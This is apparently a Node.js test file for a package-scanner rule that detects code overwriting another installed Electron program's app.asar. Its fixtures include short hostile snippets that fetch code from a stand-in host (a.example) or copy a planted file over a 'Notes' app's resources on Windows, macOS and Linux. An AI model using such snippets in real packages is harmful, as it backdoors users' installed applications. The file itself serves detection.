import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const isTold = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more }).some(({ message, severity }) => message.startsWith('the code of another program') && severity === 'high');
const HEAD = 'const fs = require("fs"), path = require("path");\n';
const PATCH = 'exports.run = async () => { const file = path.join(process.env.LOCALAPPDATA, "Programs", "notes", "resources", "app.asar"); const buf = fs.readFileSync(file); (await get()).copy(buf, 9); fs.writeFileSync(file, buf); };';

test('bad: the code of an installed program is written where a server is asked', () => {
  const get = 'const get = async () => Buffer.from(await (await fetch("https://a.example/notes.js")).arrayBuffer());\n';
  assert.equal(isTold(HEAD + get + PATCH), true);
  assert.equal(isTold(`${HEAD}const { get } = require("./get");\n${PATCH}`, { 'get.js': 'exports.get = async () => Buffer.from(await (await fetch("https://a.example/notes.js")).arrayBuffer());' }), true);
  assert.equal(isTold(`${HEAD}require("https").get("https://a.example/a", (r) => r.pipe(fs.createWriteStream("/Applications/Notes.app/Contents/Resources/app.asar")));`), true);
  assert.equal(isTold(`${HEAD}const apps = [{ at: ["Programs", "notes", "resources", "app.asar"] }]; const root = { win32: process.env.LOCALAPPDATA, linux: "/opt" }[process.platform]; for (const app of apps) fetch("https://a.example/a").then((r) => r.text()).then((t) => fs.writeFileSync(path.join(root, ...app.at), t));`), true);
});

test('good: what packs a program, updates itself, or reads another one', () => {
  const ask = 'fetch("https://a.example/a").then((r) => r.arrayBuffer()).then((b) => save(Buffer.from(b)));';
  assert.equal(isTold(`${HEAD}exports.pack = (dir) => fs.writeFileSync(path.join(dir, "resources", "app.asar"), build(dir)); ${ask}`), false, 'packs');
  assert.equal(isTold(`${HEAD}const save = (b) => fs.writeFileSync(path.join(process.resourcesPath, "app.asar"), b); ${ask}`), false, 'updates itself');
  assert.equal(isTold(`${HEAD}exports.version = () => JSON.parse(fs.readFileSync(path.join("/opt/notes/resources", "app.asar", "package.json"))).version; ${ask}`), false, 'reads');
  assert.equal(isTold(HEAD + PATCH.replace('(await get())', 'own')), false, 'asks no server');
});

const isReplaced = (text: string) => findingsOf(rule, { 'a.js': HEAD + text }).some(({ message, severity }) => message.startsWith('something is put in the place of the code of another program') && severity === 'high');
const PACK = 'const asar = require("@electron/asar"), os = require("os"), cp = require("child_process");\n';

test('bad: something of the package is put in the place of the code of an installed program', () => {
  for (const code of [
    'const at = path.join(os.homedir(), "AppData", "Local", "Programs", "notes", "resources"); const file = path.join(at, "app.asar"); asar.extractAll(file, "t"); asar.createPackage("t", file);',
    'const places = ["/Applications/Notes.app/Contents/Resources/app.asar", "/opt/notes/resources/app.asar"]; function swap(at) { fs.copyFileSync("own.bin", at); } places.map(swap);',
    'const root = path.join(process.env.LOCALAPPDATA || "", "Notes"); for (const each of fs.readdirSync(root)) fs.writeFileSync(path.join(root, each, "resources", "app", "index.js"), own);',
    '["/opt/notes/resources/app.asar"].forEach(swap); function swap(at) { fs.renameSync("own.bin", at); }',
    'cp.execSync(`cp "${__dirname}/own.asar" "/Applications/Notes.app/Contents/Resources/app.asar"`);',
  ]) assert.equal(isReplaced(PACK + code), true, code);
});

test('good: what packs a program, reads one that is installed, or changes itself where it runs', () => {
  for (const code of [
    'exports.pack = (dir, out) => asar.createPackage(dir, path.join(out, "Notes.app", "Contents", "Resources", "app.asar"));',
    'exports.stage = (out) => fs.copyFileSync("own.asar", path.join(out, "opt", "notes", "resources", "app.asar"));',
    'const file = "/Applications/Notes.app/Contents/Resources/app.asar"; exports.read = (to) => { asar.extractAll(file, to); fs.copyFileSync(file, path.join(to, "app.asar")); };',
    'fs.renameSync("new.asar", path.join(process.resourcesPath, "app.asar")); const old = path.join(process.env.LOCALAPPDATA, "Programs", "notes", "old.log"); fs.writeFileSync(old, "");',
  ]) assert.equal(isReplaced(PACK + code), false, code);
});

test('names that lead to many others, and to themselves, are read in no time', () => {
  const many = [...'abcdefgh'].map((name, at, all) => `let ${name} = [${Array(24).fill(all[(at + 1) % all.length]).join(' + ')}];`).join('\n');
  const start = performance.now();
  assert.equal(isReplaced(`${PACK}${many}\nfs.copyFileSync("own", a); // /opt/a/app.asar`), false);
  assert.ok(performance.now() - start < 2_000);
});
